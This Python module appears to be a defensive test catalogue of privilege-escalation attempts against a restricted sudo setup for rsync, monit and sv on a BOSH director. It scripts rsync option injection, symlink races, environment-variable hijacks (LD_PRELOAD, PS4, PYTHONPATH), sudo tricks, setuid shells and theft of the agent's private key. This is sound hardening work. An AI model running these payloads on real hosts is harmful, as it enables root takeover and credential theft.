"""Every known way from a right to run rsync, monit or sv as root to more than that, as a key's holder would try it.

A try is a shell script, run on the host (``host``) or beside it (``client``, with the key). It may use:

    $READ      what reads files as root on the host: the reader, or with the old rights rsync itself
    $SRC       where that has /var/vcap: user@host::vcap, or user@host:/var/vcap
    $PLANT     a directory in the store that belongs to the user, $PLANTED is its path below /var/vcap
    $OUT       a directory beside; whatever gets there has been read
    pull       rsync from the host with the key, to be given a source such as $SRC/$PLANTED/ and "$OUT/"
    root       runs a program as root with the sudo that the user has
    $MONIT     monit, as the user may run it
"""

from __future__ import annotations

from dataclasses import dataclass

SUDO_KEEPS_NOTHING = "sudo's env_reset is the default there, too"
NO_SUCH_PART = "the old tool left nothing like it on the host"
NO_SUCH_RIGHT = "not a right of the old line, which has shorter ways"


@dataclass(frozen=True)
class Try:
    """One way. ``old`` is None where the same script serves; ``absent`` says why there is none for the old rights."""

    name: str
    script: str
    old: str | None = None
    absent: str = ""
    where: str = "host"
    prepare: str = ""  # run on the host as the user before a client's script
    afterwards: str = ""  # run on the host as root behind it, as cron would
    runs: bool = False  # that it runs at all is what must not be
    kept: bool = False  # also tried where the rest of sudo's configuration keeps the caller's environment
    earlier: bool = False  # shown to work with the rights that setup gave before it said what sudo keeps
    hardened: bool = False  # rsync 3.4 and later has a protection of its own against it


def client(name, script, prepare="", **more):
    return Try(name, script, where="client", prepare=prepare, **more)


# Taken for arguments, these names make rsync run the script x.
NAMES = "cd $PLANT && echo 'id >&2' >x && touch -- '-esh x' host:y && "
RSYNC = [
    Try("rsync itself, by sudo", "root /usr/bin/rsync --chmod=a+r /etc/canary $PLANT/got && cat $PLANT/got"),
    Try(
        "the sender's log file",
        "$READ --server --sender --log-file=/etc/cron.d/canary-log --log-file-format=x -r . /etc/hostname </dev/null",
    ),
    Try("a remote shell of one's own", "$READ -e 'sh -c id>&2' x:y $PLANT/", "$READ -e 'sh -c id>&2' x:y $PLANT/"),
    Try("files-from, which names what it cannot find", "$READ -r --files-from=/etc/canary / $PLANT/"),
    Try("a filter file, which shows what is no rule", "$READ -f '. /etc/canary' /etc/hostname $PLANT/x", hardened=True),
    Try("a batch file", "$READ --write-batch=/etc/cron.d/canary-batch /etc/hostname $PLANT/x"),
    Try(
        "a copy to where it may not be",
        "$READ $PLANT/evil /etc/cron.d/canary-copy",
        "echo x >$PLANT/evil; $READ $PLANT/evil /etc/cron.d/canary-copy",
    ),
    Try(
        "an option behind a line break",
        "$READ '--server\n--daemon .' --log-file=/etc/cron.d/canary-line",
        '$READ --log-file="/etc/cron.d/canary\nline" /etc/hostname $PLANT/x',
    ),
    Try(
        "arguments that hide until later (-s), by hand",
        r"printf 'rsync\0--server\0--sender\0--log-file=/etc/cron.d/canary-s\0-r\0.\0/etc\0\0' | "
        "$READ --server --sender -s",
    ),
    Try(
        "files whose names are options",
        f"{NAMES}$READ --server --daemon . *",
        f"{NAMES}$READ *",
    ),
    client("a file outside", 'pull $SRC/../../etc/canary "$OUT/"'),
    client("a file outside, by an absolute path", 'pull $HOST:/etc/canary "$OUT/"'),
    client(
        "another module, the root's home",
        'pull ${SRC%vcap}root/canary "$OUT/"',
        old='pull ${SRC%/var/vcap}/root/canary "$OUT/"',
    ),
    client(
        "the agent's credentials, which the filter names",
        'pull $SRC/bosh/settings.json "$OUT/" && grep -q mbus "$OUT/settings.json"',
        runs=True,
    ),
    client(
        "the agent's key, by a filter of one's own",
        'pull -r --include=/bosh/ --include=agent.key --exclude="*" $SRC/ "$OUT/"; grep -rq PRIVATE "$OUT"',
        runs=True,
    ),
    client("what the filter leaves out", 'pull -r $SRC/bosh/etc/ "$OUT/"'),
    client("jobs, which the filter leaves out", 'pull -r $SRC/jobs/ "$OUT/"'),
    client("a greedy filter", "pull -r --max-size=1k -f '+ /**' $SRC/ \"$OUT/\""),
    client("a list of what is there", "pull -r $SRC/bosh/"),
    client("files-from beside", 'echo bosh/etc/canary | pull -r --files-from=- $SRC/ "$OUT/"'),
    client("files-from on the host", 'pull -r --files-from=:/etc/canary $SRC/ "$OUT/"'),
    client(
        "a configuration of one's own",
        'READ="$READ --config=$PLANT/conf"; pull ${HOST}::all/etc/canary "$OUT/"',
        prepare=r"printf '[all]\npath = /\nuid = 0\nuse chroot = no\n' >$PLANT/conf",
    ),
    client(
        "the same by a parameter",
        'READ="$READ --dparam=uid=0 --config=$PLANT/conf"; pull ${HOST}::all/root/canary "$OUT/"',
        prepare=r"printf '[all]\npath = /root\nuse chroot = no\n[x]\npath = /\n' >$PLANT/conf",
        old='READ="$READ --dparam=uid=0 --config=$PLANT/conf"; pull ${HOST}::all/canary "$OUT/"',
    ),
    client(
        "a program before a transfer (pre-xfer exec)",
        'READ="$READ --config=$PLANT/conf"; pull ${HOST}::all/hostname "$OUT/"',
        prepare="printf '[all]\\npath = /etc\\nuid = 0\\npre-xfer exec = cp /etc/canary /etc/cron.d/canary-pre\\n' "
        ">$PLANT/conf",
        old='READ="$READ --config=$PLANT/conf"; pull ${HOST}::all/hostname "$OUT/"',
    ),
    client(
        "a list of patterns on the host",
        'pull -r -M--exclude-from=/etc/canary -M-vvv $SRC/$PLANTED/ "$OUT/"',
        absent="rsync shows nothing of what it took for patterns",
    ),
    client(
        "options in a path",
        'pull "$SRC/x --log-file=/etc/cron.d/canary-path" "$OUT/"',
        old='RSYNC_OLD_ARGS=1 pull "$HOST:/etc/hostname --log-file=/etc/cron.d/canary-path" "$OUT/"',
    ),
    client("options to the other side (-M)", 'pull -M--log-file=/etc/cron.d/canary-m $SRC/ "$OUT/"'),
    client("hidden arguments (-s)", 'pull -s -M--log-file=/etc/cron.d/canary-s2 $SRC/ "$OUT/"'),
    client("sending instead of reading", 'echo x >"$OUT/canary-new"; push "$OUT/canary-new" $SRC/bosh/etc/'),
    client("sending over a file", 'echo x >"$OUT/f"; push --inplace "$OUT/f" $SRC/bosh/etc/canary'),
    client(
        "sending into the store as root",
        'echo x >"$OUT/canary-new"; push --chmod=u+s "$OUT/canary-new" $SRC/store/lost+found/',
    ),
    client("deleting on the other side", 'mkdir "$OUT/e"; push -r --delete "$OUT/e/" $SRC/store/lost+found/'),
    client("removing what was read", 'pull --remove-source-files $SRC/store/lost+found/canary-mine "$OUT/"'),
]

LINKS = [
    client(
        "a planted link by way of /proc", 'pull -rL $SRC/$PLANTED/ "$OUT/"', "ln -s /proc/self/root/etc/canary $PLANT/l"
    ),
    client("a planted link, followed (-L)", 'pull -rL $SRC/$PLANTED/ "$OUT/"', "ln -s /etc/canary $PLANT/l"),
    client("a planted link to a directory (-k)", 'pull -rk $SRC/$PLANTED/ "$OUT/"', "ln -s /etc $PLANT/etc"),
    client(
        "unsafe links (--copy-unsafe-links)",
        'pull -r --copy-unsafe-links $SRC/$PLANTED/ "$OUT/"',
        "ln -s /etc/canary $PLANT/l",
    ),
    client(
        "a path through a planted link", 'pull $SRC/$PLANTED/d/canary "$OUT/"', "ln -s /etc $PLANT/d", hardened=True
    ),
    client(
        "a planted link with a slash behind", 'pull -r $SRC/$PLANTED/d/ "$OUT/"', "ln -s /root $PLANT/d", hardened=True
    ),
    client(
        "a planted link inside /var/vcap",
        'pull -r $SRC/$PLANTED/d/ "$OUT/"',
        "ln -s ../../bosh/etc $PLANT/d",
        hardened=True,
    ),
    client(
        "a relative path through a link (-R)",
        'pull -R $SRC/$PLANTED/./d/canary "$OUT/"',
        "ln -s /etc $PLANT/d",
        hardened=True,
    ),
    client(
        "a file that a link in files-from names",
        'echo d/canary | pull -r --files-from=- $SRC/$PLANTED/ "$OUT/"',
        "ln -s /etc $PLANT/d",
        hardened=True,
    ),
    client(
        "a filter file that is a link, its rules shown",
        "pull -rvvv -n -f ':- .x' $SRC/$PLANTED/ \"$OUT/\"",
        "ln -s /etc/canary $PLANT/.x",
        hardened=True,
    ),
    client(
        "a filter file that is a link, its errors shown",
        "pull -r -n -f ': .x' $SRC/$PLANTED/ \"$OUT/\"",
        "ln -s /etc/canary $PLANT/.x",
        hardened=True,
    ),
    client(
        "a filter file that links to what the filter leaves out",
        "pull -r -n -f ': .x' $SRC/$PLANTED/ \"$OUT/\"",
        "ln -s ../../bosh/etc/canary $PLANT/.x",
        hardened=True,
    ),
    client(
        "a filter file by its absolute path",
        "pull -rvvv -n -f ':- /etc/canary' $SRC/ \"$OUT/\"",
        absent="rsync looks for it above what is copied only",
    ),
    client(
        "devices as files",
        'pull -rD --copy-devices $SRC/$PLANTED/ "$OUT/"',
        "ln -s /dev/mem $PLANT/mem",
        absent="there is no device to read in a container",
    ),
    client(
        "a directory swapped for a link while it is read",
        'pull -r --bwlimit=2000 $SRC/$PLANTED/ "$OUT/" & '
        'until ls -A "$OUT" | grep -q big; do sleep 0.05; done; on_host "cd $PLANT && mv z y && ln -s /etc z"; wait',
        "mkdir $PLANT/z && echo mine >$PLANT/z/canary && head -c 4000000 /dev/zero >$PLANT/big",
        hardened=True,
    ),
    client(
        "the same, to what the filter leaves out",
        'pull -r --bwlimit=2000 $SRC/$PLANTED/ "$OUT/" & '
        'until ls -A "$OUT" | grep -q big; do sleep 0.05; done; '
        'on_host "cd $PLANT && mv z y && ln -s ../../bosh/etc z"; wait',
        "mkdir $PLANT/z && echo mine >$PLANT/z/canary && head -c 4000000 /dev/zero >$PLANT/big",
        hardened=True,
    ),
    client(
        "a file swapped for a link while it is read",
        'pull -r --bwlimit=2000 $SRC/$PLANTED/ "$OUT/" & '
        'until ls -A "$OUT" | grep -q big; do sleep 0.05; done; '
        'on_host "cd $PLANT && rm z && ln -s /etc/canary z"; wait',
        "echo mine >$PLANT/z && head -c 4000000 /dev/zero >$PLANT/big",
        absent="an rsync with the fix of CVE-2024-12747 opens no link in the place of a file",
    ),
    client(
        "a crafted client that has the host forget its rules",
        'crafted "!" "+ /**" >"$OUT/answer"',
        absent="there are no rules to forget",
    ),
    client(
        "a crafted client that has the host read a file as rules",
        'crafted ". /etc/canary" >"$OUT/answer"',
        hardened=True,
    ),
    client(
        "a crafted client that has the host read what the filter leaves out",
        'crafted ". /var/vcap/bosh/etc/canary" ". /bosh/etc/canary" >"$OUT/answer"',
        hardened=True,
    ),
]

MONIT_RC = (
    "printf 'set daemon 10\\ncheck process x with pidfile /tmp/x start program = \"/bin/sh -c id\"\\n' >$PLANT/rc; "
    "chmod 700 $PLANT/rc; "
)
MONIT = "root /var/vcap/bosh/bin/monit"
SV = "root /usr/bin/sv"
# A service directory of one's own: sv writes a letter to what stands at supervise/control.
SERVICE = (
    "mkdir -p $PLANT/evil/supervise && cd $PLANT/evil/supervise && mkfifo ok && exec 7<>ok && "
    "ln -s /etc/canary control && head -c 20 /dev/zero >status; "
)
OTHERS = [
    Try("monit's errors about a file (-c)", f"{MONIT} -c /etc/canary -t; {MONIT} -t -c /etc/canary summary"),
    Try(
        "a configuration of one's own for monit",
        f"{MONIT_RC}{MONIT} -c $PLANT/rc -t",
        absent="monit wants its file to be root's",
    ),
    Try(
        "a state file for monit",
        f"{MONIT} -s /etc/cron.d/canary-state -c /var/vcap/bosh/etc/monitrc validate; "
        f"{MONIT} -l /etc/cron.d/canary-mlog validate",
    ),
    Try(
        "a configuration at home for monit",
        f"{MONIT_RC}mv $PLANT/rc $PLANT/.monitrc; cp $PLANT/.monitrc .; export HOME=$PLANT; {MONIT} summary; "
        f"sudo -n HOME=$PLANT /var/vcap/bosh/bin/monit summary; {MONIT} start all; rm -f ~/.monitrc",
        absent="monit wants its file to be root's",
    ),
    Try("another verb of monit", f"{MONIT} reload", runs=True),
    Try("monit's verb with a file behind it", f"{MONIT} summary -c /etc/canary"),
    Try(
        "a service's name with an option in it",
        f"{MONIT} start 'all -c /etc/canary' && exit 9; {MONIT} summary; exit 1",
        f"{MONIT} -t -c /etc/canary",
    ),
    Try("another service of runit", f"{SV} status cron", runs=True),
    Try("a service by its path", f"{SV} status /etc/sv/cron", runs=True),
    Try("two services at once", f"{SV} status agent cron", runs=True),
    Try("a service directory of one's own", f"{SERVICE}{SV} -w 1 start $PLANT/evil"),
    Try("a service directory of one's own, by a path behind", f"{SERVICE}{SV} -w 1 start agent $PLANT/evil"),
    Try(
        "a service directory by SVDIR",
        f"{SERVICE}cd $PLANT && mv evil agent; SVDIR=$PLANT {SV} start agent",
        absent=SUDO_KEEPS_NOTHING,
    ),
    Try(
        "SVDIR given to sudo",
        f"{SERVICE}cd $PLANT && mv evil agent; sudo -n SVDIR=$PLANT /usr/bin/sv start agent",
        absent=SUDO_KEEPS_NOTHING,
    ),
]

# A program that shows that root ran it.
EVIL = "printf '#!/bin/sh\\nid; cp /etc/canary /etc/cron.d/canary-evil\\n' >$PLANT/evil; chmod 755 $PLANT/evil; "
FAKES = (
    EVIL
    + "for name in rsync unshare mount find cp mkdir touch chown sh libc.so.6; do cp $PLANT/evil $PLANT/$name; done; "
)
VARIABLES = {
    "RSYNC_RSH": "'sh -c id'",
    "RSYNC_CONNECT_PROG": "'sh -c id'",
    "RSYNC_PROXY": "127.0.0.1:22",
    "LD_PRELOAD": "$PLANT/evil",
    "LD_LIBRARY_PATH": "$PLANT",
    "BASH_ENV": "$PLANT/evil",
    "ENV": "$PLANT/evil",
    "IFS": "/",
    "SHELLOPTS": "xtrace",
    "PS4": "'$(cp /etc/canary /etc/cron.d/canary-ps4)'",
    "RSYNC_OLD_ARGS": "1",
    "TMPDIR": "$PLANT",
    "PATH": "$PLANT:/usr/bin:/bin",
    "HOME": "$PLANT",
    "CDPATH": "$PLANT",
    "RSYNC_CONFIG": "$PLANT/conf",
    "PYTHONPATH": "$PLANT",
}
READER = "/usr/local/sbin/microbosh-read"
ENVIRONMENT = [
    Try(
        f"{name} in the environment",
        # Both ways: in the user's own environment, and given to sudo.
        f"{FAKES}SUDO=$(command -v sudo); env {name}={value} $SUDO -n {READER} --server --daemon . </dev/null; "
        f"$SUDO -n {name}={value} {READER} --server --daemon . </dev/null",
        absent=SUDO_KEEPS_NOTHING,
        kept=True,
    )
    for name, value in VARIABLES.items()
]

# What else sudo may let through: where root's programs find other programs and their configuration.
PROCESSES = "/usr/local/sbin/microbosh-processes"
MONIT_FAKES = EVIL + "for name in cat grep awk mkdir rm systemctl sv; do cp $PLANT/evil $PLANT/$name; done; "
AT_HOME = (
    "mkdir -p $PLANT/monit $PLANT/.config; "
    "for rc in .monitrc monit/monitrc .config/monitrc; do ln -s /etc/canary $PLANT/$rc; done; "
)
PYTHON = (
    "for name in os json re sitecustomize usercustomize encodings; do "
    "echo 'import posix; posix.system(\"id >&2\")' >$PLANT/$name.py; done; "
)
POPT = EVIL + (
    "for word in --server --daemon --config --sender --numeric-ids -r; do "
    "echo \"rsync alias $word --rsh=$PLANT/evil\"; echo \"rsync exec $word $PLANT/evil\"; done >$PLANT/.popt; "
)


def monit(name, variables, prepare=MONIT_FAKES, **more):
    """A trick with variables for monit, in each of the ways to give them to sudo."""
    names = ",".join(word.partition("=")[0] for word in variables.split())
    ways = ["", "-E ", f"--preserve-env={names} ", "-H ", f"{variables} "]
    lines = "; ".join(f"env {variables} $SUDO -n {way}$MONIT summary" for way in ways)
    more = {"kept": True, "earlier": True, **more}
    return Try(f"monit: {name}", f"{prepare}SUDO=$(command -v sudo); {lines}", **more)


CONFIGURATION = [
    monit("programs of one's own, by PATH", "PATH=$PLANT:/usr/bin:/bin"),
    monit("a configuration at home", "HOME=$PLANT", AT_HOME, absent="monit asks the user database for root's home"),
    monit("a script that bash reads first", "BASH_ENV=$PLANT/evil ENV=$PLANT/evil"),
    monit("a configuration by XDG", "XDG_CONFIG_HOME=$PLANT XDG_DATA_HOME=$PLANT", AT_HOME, absent="monit has none"),
    monit(
        "a function of bash",
        "'BASH_FUNC_cat%%=()\t{ id; }' 'cat=()\t{ id; }'",
        absent="sudo lets no function through",
    ),
    monit("a library of one's own", "LD_PRELOAD=$PLANT/evil LD_AUDIT=$PLANT/evil", absent="sudo itself has none of it"),
    monit(
        "what a shell traces",
        "SHELLOPTS=xtrace PS4='$(id>&2)' SUDO_PS1='$(id>&2)'",
        absent="bash takes it from nobody while it is root",
    ),
    Try(
        "the sudo of the user's own directory",
        f"{MONIT_FAKES}cp $PLANT/evil $PLANT/sudo; cd $PLANT; /usr/bin/sudo -n ./monit summary; "
        "/usr/bin/sudo -n -- ../../../$MONIT summary",
        kept=True,
        absent=NO_SUCH_RIGHT,
    ),
    Try(
        "aliases of rsync at home (.popt)",
        f"{POPT}export HOME=$PLANT; SUDO=$(command -v sudo); for o in '' -E -H --preserve-env=HOME HOME=$PLANT; do "
        f"(printf '@RSYNCD: 31.0\\nvcap\\n--server\\n--sender\\n-r\\n.\\nvcap/\\n\\n'; sleep 0.2) | "
        f"$SUDO -n $o {READER} --server --daemon .; done",
        kept=True,
        absent="the aliases that rsync 3.2 and later heeds as a daemon are none of the reader's options",
    ),
    Try(
        "modules of Python and what it runs first",
        f"{PYTHON}cd $PLANT; SUDO=$(command -v sudo); "
        "for way in '' -E; do for at in PYTHONPATH PYTHONHOME PYTHONUSERBASE; do "
        f"env $at=$PLANT PYTHONSTARTUP=$PLANT/os.py PYTHONINSPECT=1 $SUDO -n $way {PROCESSES} >$PLANT/out; done; done; "
        "cat $PLANT/out | grep -v '\"version\": 1'",
        kept=True,
        absent="it began under an empty environment before",
    ),
    Try(
        "modules of Python at home",
        f"{PYTHON}for v in 2.7 3.9 3.11; do d=$PLANT/.local/lib/python$v/site-packages; mkdir -p $d; "
        "cp $PLANT/usercustomize.py $d/; echo 'import os; os.system(\"id >&2\")' >$d/x.pth; done; cd $PLANT; "
        f"export HOME=$PLANT; for way in '' -E -H HOME=$PLANT; do /usr/bin/sudo -n $way {PROCESSES} >/dev/null; done",
        kept=True,
        absent="it began under an empty environment before",
    ),
    Try(
        "the agent's program by PATH and SVDIR",
        f"{MONIT_FAKES}{SERVICE}cd $PLANT && mv evil agent2; cd /; SUDO=$(command -v sudo); for way in '' -E; do "
        "env PATH=$PLANT:/usr/bin:/bin SVDIR=$PLANT SVWAIT=1 XDG_RUNTIME_DIR=$PLANT SYSTEMD_UNIT_PATH=$PLANT "
        "$SUDO -n $way /usr/bin/sv status agent; done; false",
        kept=True,
        absent=NO_SUCH_RIGHT,
    ),
]

SUDO = [
    Try("a shell from sudo (-s, -i)", "sudo -n -s id; sudo -n -i id; sudo -n su -c id", absent=NO_SUCH_RIGHT),
    Try(
        "an editor from sudo (-e)",
        "SUDO_EDITOR=/bin/cat sudo -n -e /etc/canary; EDITOR=cat sudoedit -n /etc/canary; "
        "EDITOR='cat -- /etc/canary' sudoedit -n /etc/motd; sudoedit -s 'x\\' $(printf %0200d 0)",
        absent=NO_SUCH_RIGHT,
    ),
    Try(
        "another user (-u '#-1')",
        "sudo -n -u '#-1' id; sudo -n -u '#0' id; sudo -n -u '#4294967295' id",
        absent=NO_SUCH_RIGHT,
    ),
    Try(
        "the other options of sudo (-E, -g, -b, -C, -T, -i)",
        f"{EVIL}export BASH_ENV=$PLANT/evil ENV=$PLANT/evil; "
        "for o in -E --preserve-env=ENV '-g root' -b '-C 9' '-T 5' -i; do "
        f"sudo -n $o id; sudo -n $o {READER} --server --daemon . </dev/null; done; sudo -n -A id",
        absent=NO_SUCH_RIGHT,
    ),
    Try(
        "a root of one's own (-R)",
        f"{EVIL}mkdir -p $PLANT/r/usr/local/sbin; cp $PLANT/evil $PLANT/r{READER}; "
        f"sudo -n -R $PLANT/r {READER} --version",
        absent=NO_SUCH_RIGHT,
    ),
    Try(
        "a directory of one's own (-D)",
        f"{EVIL}sudo -n -D $PLANT {READER} --version; cd $PLANT && sudo -n ./evil",
        absent=NO_SUCH_RIGHT,
    ),
    Try(
        "a program of the same name elsewhere",
        f"{EVIL}cp $PLANT/evil $PLANT/microbosh-read; sudo -n $PLANT/microbosh-read --version; "
        f"sudo -n $PLANT/../{READER} --version",
        absent=NO_SUCH_RIGHT,
    ),
    Try(
        "arguments behind an exact line",
        f"sudo -n {READER} --version -x; sudo -n {READER} --server --daemon . /etc; sudo -n {READER} --apart",
        runs=True,
        old="sudo -n rsync --version -x",
    ),
    Try(
        "the layout made to fail by limits",
        "ln -s ../../bosh/etc $PLANT/d; "
        "for limit in '-n 7' '-n 8' '-n 9' '-n 10' '-v 4500' '-v 5500' '-v 6500' '-v 7500' '-f 0' '-s 64'; do "
        f"RSYNC_CONNECT_PROG=\"sh -c 'ulimit $limit; exec sudo -n {READER} --server --daemon .'\" "
        "timeout 5 rsync -r x::vcap/$PLANTED/d/ $PLANT/got/; done; cat $PLANT/got/*",
        absent=NO_SUCH_PART,
    ),
    Try(
        "the reader's root by way of /proc",
        f"(sleep 2 | sudo -n {READER} --server --daemon . &); sleep 0.5; "
        "for p in $(pgrep -f 'server --daemon'); do cat /proc/$p/root/etc/canary /proc/$p/cwd/bosh/etc/canary; done; "
        "sleep 2",
        absent=NO_SUCH_PART,
    ),
    Try("the reader's own second step", f"sudo -n {READER} --apart </dev/null", runs=True, absent=NO_SUCH_PART),
    Try("no argument where there are some", f"sudo -n {READER}", runs=True, absent=NO_SUCH_PART),
    Try(
        "wildcards of sudoers",
        "sudo -n /var/vcap/bosh/bin/monit start '*'; sudo -n /usr/bin/sv '?tatus' agent; "
        "sudo -n /usr/bin/sv '[s]tatus' agent",
        runs=True,
        absent="the old line has no arguments to match",
    ),
    Try("cp", "root cp /etc/canary $PLANT/c && root chmod a+r $PLANT/c && cat $PLANT/c"),
    Try("cp over a file of root", "echo x >$PLANT/x; root cp $PLANT/x /etc/canary"),
    Try("tar that reads", "root tar -cf - -C / etc/canary"),
    Try("tar that runs a program", "root tar -cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec=id"),
    Try("chown", "root chown $(id -u) /etc/canary && cat /etc/canary"),
    Try("chmod", "root chmod a+r /etc/canary && cat /etc/canary"),
    Try(
        "a shell with the right of root",
        # Neither the store nor a stemcell's /home gives rights of that kind.
        "d=$(mktemp -d /var/tmp/XXXXXX); cp /bin/sh $d/sh; root chown root $d/sh && root chmod 4755 $d/sh && "
        "$d/sh -p -c id; rm -rf $d",
    ),
    Try("tar by a program of one's own (-I)", "root tar -I 'sh -c id>&2' -cf /dev/null /etc/hostname"),
    Try("cp to where it can be read", "root cp /etc/canary /dev/stdout"),
    Try("rm", "root rm /etc/canary"),
    Try(
        "find, sh, bash, mv, tee, dd",
        "for p in find sh bash mv tee dd cat env; do root $p --version && exit 0; done; exit 1",
        runs=True,
        absent=NO_SUCH_RIGHT,
    ),
]

STAGING = "/var/vcap/store/microbosh-backup"
COMEBACK = "timeout 60 /usr/local/sbin/microbosh-comeback"


def lease(name, script):
    """A trick with the directory of the user in which root's own script looks."""
    return Try(name, f"cd {STAGING} && rm -rf lease* && {script}", absent=NO_SUCH_PART, afterwards=COMEBACK)


TRUST = [
    Try(
        "replacing the reader",
        f"{EVIL}cp $PLANT/evil {READER} || mv -f $PLANT/evil {READER} || ln -sf $PLANT/evil {READER}",
        f"{EVIL}root cp $PLANT/evil {READER}",
    ),
    Try(
        "replacing what brings a director back",
        f"{EVIL}cp $PLANT/evil /usr/local/sbin/microbosh-comeback || echo x >>/etc/cron.d/microbosh-comeback",
        f"{EVIL}root cp $PLANT/evil /usr/local/sbin/microbosh-comeback",
    ),
    Try(
        "replacing the reader's directory",
        "mv /usr/local/lib/microbosh-read /usr/local/lib/x || echo x >/usr/local/lib/microbosh-read/canary-x",
        "echo x >$PLANT/x; root cp $PLANT/x /usr/local/lib/microbosh-read/canary-x",
    ),
    Try(
        "replacing the staging directory",
        f"mv {STAGING} {STAGING}.old || ln -sfn /etc {STAGING}.new && mv -T {STAGING}.new {STAGING}",
        afterwards=COMEBACK,
        absent=NO_SUCH_PART,
    ),
    lease("lease-armed is a link to a file of root", "ln -s /etc/canary lease-armed"),
    lease("lease-armed is a FIFO", "mkfifo lease-armed"),
    lease("lease-armed is a directory", "mkdir lease-armed"),
    lease("lease-armed is a hard link to a file of root", "ln /etc/canary lease-armed"),
    lease(
        "lease-armed names a command",
        "printf '$(cp /etc/canary /etc/cron.d/canary-cmd)\\n' >lease-armed; printf 'start; id\\n' >lease-armed",
    ),
    lease("lease.lock is a link to a file of root", "echo start >lease-armed; ln -s /etc/canary lease.lock"),
    lease(
        "lease.lock is a link to where no file is", "echo start >lease-armed; ln -s /etc/cron.d/canary-lock lease.lock"
    ),
    lease("lease.lock is a FIFO", "echo start >lease-armed; mkfifo lease.lock"),
    lease(
        "the record is a link to a file of root",
        "echo start >lease-armed; ln -s /etc/canary lease-fired.json; ln -s /etc/canary lease-fired.json.new",
    ),
    lease("the record is a FIFO", "echo start >lease-armed; mkfifo lease-fired.json lease-fired.json.new"),
    lease("the record is a directory", "echo start >lease-armed; mkdir lease-fired.json lease-fired.json.new"),
    lease("lease.lock is a hard link to a file of root", "echo start >lease-armed; ln /etc/canary lease.lock"),
    lease("the socket is a link to a file of root", "echo start >lease-armed; ln -s /etc/canary lease.sock"),
    lease(
        "the directory may not be written to by root",
        "echo start >lease-armed; ln -s /etc/canary lease-starting; chmod 500 .",
    ),
    Try(
        "links that come and go while root looks",
        f"cd {STAGING} && rm -rf lease*; "
        "(end=$(($(date +%s) + 3)); while [ $(date +%s) -lt $end ]; do for n in 1 2 3 4 5 6 7 8 9; do "
        "ln -sfn /etc/canary lease-armed; echo start >l; mv l lease-armed; "
        "ln -sfn /etc/cron.d/canary-race lease.lock; ln -sfn /etc/canary lease-fired.json.new; rm -f lease.lock; "
        "done; done; rm -f lease*) >/dev/null 2>&1 &",
        afterwards=f"for n in 1 2 3 4 5 6; do {COMEBACK}; done; sleep 2",
        absent=NO_SUCH_PART,
    ),
]

TRIES = RSYNC + LINKS + OTHERS + ENVIRONMENT + CONFIGURATION + SUDO + TRUST
